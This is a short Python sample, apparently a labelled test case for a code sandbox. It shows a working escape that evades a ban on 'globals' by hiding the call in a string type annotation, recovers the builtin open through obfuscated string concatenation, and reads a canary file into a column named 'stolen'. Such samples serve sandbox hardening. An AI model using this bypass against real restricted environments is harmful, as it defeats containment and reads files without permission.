# class: introspection
# technique: typing.get_type_hints(fn) with the annotation 'globals()' hands back the namespace the annotation was evaluated in (globals is a banned name only outside strings); its __builtins__ gives open
# goal: read
import typing

import pandas as pd

seen = []


def cell(x: "[seen.append(globals()), int][-1]"):
    return x


typing.get_type_hints(cell)
namespace = seen[0]
b = namespace["_" * 2 + "builtins" + "_" * 2]
reader = b["open"] if isinstance(b, dict) else b.open
df = pd.DataFrame({"stolen": [reader("{{CANARY_FILE}}").read()]})
